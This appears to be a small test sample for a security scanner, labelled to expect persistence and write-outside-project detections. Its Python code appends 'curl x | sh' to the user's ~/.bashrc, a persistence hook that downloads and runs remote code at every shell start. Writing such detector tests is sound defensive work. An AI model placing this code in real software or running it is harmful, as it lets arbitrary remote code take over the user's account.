# expect: py-persistence,py-write-outside
import os
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('curl x | sh\n')
